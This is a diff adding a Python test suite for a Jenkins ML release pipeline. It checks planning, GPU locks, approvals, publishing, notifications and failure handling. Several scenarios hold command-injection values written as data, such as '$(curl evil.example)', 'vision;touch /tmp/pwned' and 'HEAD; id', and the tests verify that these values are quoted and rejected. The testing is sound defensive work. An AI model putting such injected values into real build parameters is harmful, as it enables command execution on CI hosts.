@@ -1,0 +1,292 @@
+"""The release pipeline (the real root Jenkinsfile → mlciRelease) under stubbed pipeline steps:
+the exact commands it runs, where it runs them, and the build result."""
+
+from __future__ import annotations
+
+import shlex
+
+from .scenarios import (
+    BASE,
+    HEAD,
+    calls,
+    entry,
+    job,
+    plan,
+    record,
+    release_commands,
+    run_call,
+    scenario,
+    shell,
+    status_json,
+)
+
+APPROVAL = {"approval": True, "submitter": "ml-leads,alice", "approval_timeout_s": 3600, "store": "hub"}
+INJECTED_PROJECTS = "vision;touch /tmp/pwned"
+INJECTED_BASE = "$(curl evil.example)"
+
+SCENARIOS = [
+    scenario("one", plan(entry("vision", 1)), files=status_json("vision", "Succeeded", 0.95)),
+    scenario("none", plan()),
+    scenario("none-skipped", plan(skipped=["vision"]), params={"PROJECTS": "vision"}),
+    scenario("two", plan(entry("vision", 2), entry("nlp", 1))),
+    scenario("cpu-and-all", plan(entry("tabular", 0), entry("big", -1))),
+    scenario(
+        "gate-fails",
+        plan(entry("vision", 1)),
+        sh=[{"match": r"^mlci run vision ", "status": 1}],
+        files=status_json("vision", "Failed", 0.81),
+    ),
+    scenario(
+        "one-of-two-fails", plan(entry("vision", 1), entry("nlp", 1)), sh=[{"match": r"^mlci run vision ", "status": 1}]
+    ),
+    scenario("approved", plan(entry("vision", 1, **APPROVAL))),
+    scenario("rejected", plan(entry("vision", 1, **APPROVAL)), input={"vision": "reject"}),
+    scenario("approval-timeout", plan(entry("vision", 1, **APPROVAL)), input={"vision": "timeout"}),
+    scenario("aborted-while-waiting", plan(entry("vision", 1, **APPROVAL)), input={"vision": "abort"}),
+    scenario("run-crashes", plan(entry("vision", 1)), sh=[{"match": r"^mlci run ", "status": 137}]),
+    scenario(
+        "agent-lost", plan(entry("vision", 1)), sh=[{"match": r"^mlci run ", "throws": "agent gpu-01 went offline"}]
+    ),
+    scenario("cancelled", plan(entry("vision", 1)), sh=[{"match": r"^mlci run ", "status": 130}]),
+    scenario("config-error", plan(entry("vision", 1)), sh=[{"match": r"^mlci run ", "status": 2}]),
+    scenario("publish-fails", plan(entry("vision", 1)), sh=[{"match": r"^mlci publish ", "status": 1}]),
+    scenario(
+        "notify-broken",
+        plan(entry("vision", 1)),
+        sh=[{"match": r"--event=started", "status": 1}, {"match": r"--event=succeeded", "throws": "slack down"}],
+    ),
+    scenario("no-host-variable", plan(entry("vision", 1)), host=None),
+    scenario(
+        "parameters",
+        plan(entry("vision", 1)),
+        params={"BASE_REF": "v1.2", "HEAD_REF": "release/2024-05", "PROJECTS": "vision,nlp", "FORCE": True},
+    ),
+    scenario(
+        "injection-parameters",
+        sh=[{"match": r"^mlci plan ", "status": 2}],
+        params={"BASE_REF": INJECTED_BASE, "PROJECTS": INJECTED_PROJECTS},
+    ),
+    scenario("injection-plan", plan(entry("vision;id", 1))),
+    scenario("injection-commit", {**plan(entry("vision", 1)), "commit": "HEAD; id"}),
+]
+
+
+def test_one_project_runs_trains_publishes_and_notifies(results):
+    r = results["one"]
+    assert r["result"] == "SUCCESS", r["error"]
+    assert shell(r) == ["mlci plan --head=HEAD --json", *release_commands("vision", "0")]
+    assert [c["args"] for c in calls(r, "parallel")] == [["vision"]]
+    assert [c["args"] for c in calls(r, "lock")] == [{"label": "gpu@gpu-01", "quantity": 1, "variable": "MLCI_LOCKED"}]
+    run = run_call(r, "vision")
+    assert run["stage"] == "vision" and run["node"] == "gpu-01"
+    assert run["locked"]["resources"] == ["gpu-01-gpu0"]
+    assert [c["args"] for c in calls(r, "timeout")] == [{"time": 3600, "unit": "SECONDS"}]
+    assert [c["args"] for c in calls(r, "archiveArtifacts")] == [
+        {"artifacts": f"{record('vision')}/**", "allowEmptyArchive": True, "fingerprint": False}
+    ]
+    (junit,) = calls(r, "junit")
+    assert junit["args"]["testResults"] == f"{record('vision')}/junit.xml"
+    assert junit["args"]["skipMarkingBuildUnstable"] is True
+    assert r["displayName"] == f"#42 vision @ {HEAD[:7]}"
+    assert f"Trains vision at {HEAD}" in r["description"]
+    assert "vision: Succeeded, accuracy = 0.95 (gate 0.9: passed)" in r["description"]
+    assert not calls(r, "input")
+
+
+def test_the_plan_runs_on_a_checked_out_node(results):
+    r = results["one"]
+    plan_call = calls(r, "sh")[0]
+    assert plan_call["stage"] == "Plan" and plan_call["node"] == "gpu-01"
+    assert plan_call["args"]["returnStdout"] is True
+    first_checkout = calls(r, "checkout")[0]
+    assert r["calls"].index(first_checkout) < r["calls"].index(plan_call)
+
+
+def test_nothing_affected_is_not_built_with_a_message(results):
+    r = results["none"]
+    assert r["result"] == "NOT_BUILT"
+    assert shell(r) == ["mlci plan --head=HEAD --json"]
+    message = f"Nothing to train: no project changed in {BASE[:12]}..{HEAD[:12]}"
+    assert r["description"] == message
+    assert message in r["log"]
+    assert not calls(r, "parallel") and not calls(r, "lock")
+
+
+def test_named_but_unchanged_projects_are_reported(results):
+    r = results["none-skipped"]
+    assert r["result"] == "NOT_BUILT"
+    assert shell(r) == ["mlci plan --head=HEAD --projects=vision --json"]
+    assert any(line.startswith("vision: unchanged in") and "FORCE" in line for line in r["log"])
+
+
+def test_two_projects_run_in_parallel_with_their_own_gpu_leases(results):
+    r = results["two"]
+    assert r["result"] == "SUCCESS", r["error"]
+    assert [c["args"] for c in calls(r, "parallel")] == [["vision", "nlp"]]
+    assert [(c["args"]["label"], c["args"]["quantity"]) for c in calls(r, "lock")] == [
+        ("gpu@gpu-01", 2),
+        ("gpu@gpu-01", 1),
+    ]
+    assert run_call(r, "vision")["args"]["script"] == f"mlci run vision --job-id={job('vision')} --gpus=0,1"
+    assert run_call(r, "nlp")["args"]["script"] == f"mlci run nlp --job-id={job('nlp')} --gpus=0"
+    assert run_call(r, "vision")["stage"] == "vision" and run_call(r, "nlp")["stage"] == "nlp"
+    assert shell(r) == [
+        "mlci plan --head=HEAD --json",
+        *release_commands("vision", "0,1"),
+        *release_commands("nlp", "0"),
+    ]
+    assert r["displayName"] == f"#42 vision, nlp @ {HEAD[:7]}"
+
+
+def test_cpu_projects_take_no_lock_and_all_takes_every_gpu(results):
+    r = results["cpu-and-all"]
+    assert r["result"] == "SUCCESS", r["error"]
+    assert run_call(r, "tabular")["args"]["script"] == f"mlci run tabular --job-id={job('tabular')} --gpus=none"
+    assert run_call(r, "tabular")["locked"] is None
+    (lock,) = calls(r, "lock")
+    assert lock["args"] == {"label": "gpu@gpu-01", "variable": "MLCI_LOCKED"}  # no quantity: every resource
+    assert run_call(r, "big")["args"]["script"] == f"mlci run big --job-id={job('big')} --gpus=0,1,2,3"
+
+
+def test_a_failed_gate_fails_notifies_and_publishes_nothing(results):
+    r = results["gate-fails"]
+    assert r["result"] == "FAILURE"
+    assert shell(r)[1:] == [
+        f"git checkout --quiet --detach {HEAD}",
+        f"mlci notify --event=started vision {job('vision')}",
+        f"mlci run vision --job-id={job('vision')} --gpus=0",
+        f"mlci notify --event=failed vision {job('vision')}",
+    ]
+    assert "a stage or the evaluation gate failed (mlci run exited 1)" in r["error"]
+    assert calls(r, "archiveArtifacts") and calls(r, "junit")  # the record is kept for a failed run too
+    assert "vision: Failed, accuracy = 0.81 (gate 0.9: failed)" in r["description"]
+
+
+def test_one_failing_project_does_not_stop_the_other(results):
+    r = results["one-of-two-fails"]
+    assert r["result"] == "FAILURE"
+    assert f"mlci notify --event=failed vision {job('vision')}" in shell(r)
+    assert not any(s.startswith("mlci publish vision") for s in shell(r))
+    assert f"mlci publish nlp {job('nlp')} --store=local" in shell(r)
+    assert f"mlci notify --event=succeeded nlp {job('nlp')}" in shell(r)
+
+
+def test_approval_asks_the_submitter_then_publishes(results):
+    r = results["approved"]
+    assert r["result"] == "SUCCESS", r["error"]
+    assert shell(r)[-3:] == [
+        f"mlci notify --event=approval vision {job('vision')}",
+        f"mlci publish vision {job('vision')} --store=hub",
+        f"mlci notify --event=succeeded vision {job('vision')}",
+    ]
+    (ask,) = calls(r, "input")
+    assert ask["args"]["submitter"] == "ml-leads,alice"
+    assert ask["args"]["message"] == f"Publish vision ({job('vision')}) to store hub?"
+    assert ask["locked"] is None  # nobody holds a GPU while waiting for a person
+    assert {"time": 3600, "unit": "SECONDS"} in [c["args"] for c in calls(r, "timeout")]
+    assert "vision: publishing approved by alice" in r["log"]
+
+
+def test_rejected_approval_publishes_nothing(results):
+    r = results["rejected"]
+    assert r["result"] == "UNSTABLE"
+    assert not any(" publish " in s or "--event=succeeded" in s or "--event=failed" in s for s in shell(r))
+    assert shell(r)[-1] == f"mlci notify --event=approval vision {job('vision')}"
+    assert any("not published" in line for line in r["log"])
+
+
+def test_approval_timeout_publishes_nothing(results):
+    r = results["approval-timeout"]
+    assert r["result"] == "UNSTABLE"
+    assert not any(" publish " in s for s in shell(r))
+
+
+def test_aborting_the_build_during_approval_aborts(results):
+    r = results["aborted-while-waiting"]
+    assert r["result"] == "ABORTED"
+    assert not any(" publish " in s for s in shell(r))
+
+
+def test_a_crashing_mlci_run_fails_the_build(results):
+    r = results["run-crashes"]
+    assert r["result"] == "FAILURE"
+    assert "vision: mlci run crashed (mlci run exited 137)" in r["error"]
+    assert shell(r)[-1] == f"mlci notify --event=failed vision {job('vision')}"
+    assert not any(" publish " in s for s in shell(r))
+    assert "vision: no run record" in r["description"]
+    assert calls(r, "archiveArtifacts")
+
+
+def test_a_lost_agent_still_notifies_and_archives(results):
+    r = results["agent-lost"]
+    assert r["result"] == "FAILURE"
+    assert r["error"] == "agent gpu-01 went offline"
+    assert shell(r)[-1] == f"mlci notify --event=failed vision {job('vision')}"
+    assert calls(r, "archiveArtifacts")
+
+
+def test_a_cancelled_run_aborts(results):
+    r = results["cancelled"]
+    assert r["result"] == "ABORTED"
+    assert "the run was cancelled" in r["error"]
+
+
+def test_a_configuration_error_fails(results):
+    r = results["config-error"]
+    assert r["result"] == "FAILURE"
+    assert "configuration or usage error (mlci run exited 2)" in r["error"]
+
+
+def test_a_failed_publish_fails_and_notifies(results):
+    r = results["publish-fails"]
+    assert r["result"] == "FAILURE"
+    assert shell(r)[-2:] == [
+        f"mlci publish vision {job('vision')} --store=local",
+        f"mlci notify --event=failed vision {job('vision')}",
+    ]
+    assert "--event=succeeded" not in " ".join(shell(r))
+
+
+def test_notifications_never_fail_the_build(results):
+    r = results["notify-broken"]
+    assert r["result"] == "SUCCESS", r["error"]
+    assert f"mlci publish vision {job('vision')} --store=local" in shell(r)
+    warnings = [line for line in r["log"] if line.startswith("WARNING: mlci notify")]
+    assert len(warnings) == 2 and "slack down" in warnings[1]
+
+
+def test_a_node_without_mlci_host_is_a_clear_error(results):
+    r = results["no-host-variable"]
+    assert r["result"] == "FAILURE"
+    assert "has no valid MLCI_HOST" in r["error"]
+    assert not calls(r, "lock") and not any(s.startswith("mlci run") for s in shell(r))
+
+
+def test_job_parameters_reach_the_plan(results):
+    r = results["parameters"]
+    assert shell(r)[0] == "mlci plan --base=v1.2 --head=release/2024-05 --projects=vision,nlp --force --json"
+
+
+def test_injected_parameters_stay_single_words(results):
+    r = results["injection-parameters"]
+    expected = (
+        f"mlci plan --base={shlex.quote(INJECTED_BASE)} --head=HEAD --projects={shlex.quote(INJECTED_PROJECTS)} --json"
+    )
+    assert shell(r) == [expected]
+    assert shlex.split(expected) == [
+        "mlci",
+        "plan",
+        f"--base={INJECTED_BASE}",
+        "--head=HEAD",
+        f"--projects={INJECTED_PROJECTS}",
+        "--json",
+    ]
+    assert r["result"] == "FAILURE"  # mlci plan refuses the name (exit 2): nothing else runs
+
+
+def test_a_hostile_plan_runs_nothing(results):
+    for name in ("injection-plan", "injection-commit"):
+        r = results[name]
+        assert r["result"] == "FAILURE"
+        assert r["error"].startswith("mlci plan printed an unusable plan"), r["error"]
+        assert len(shell(r)) == 1, shell(r)
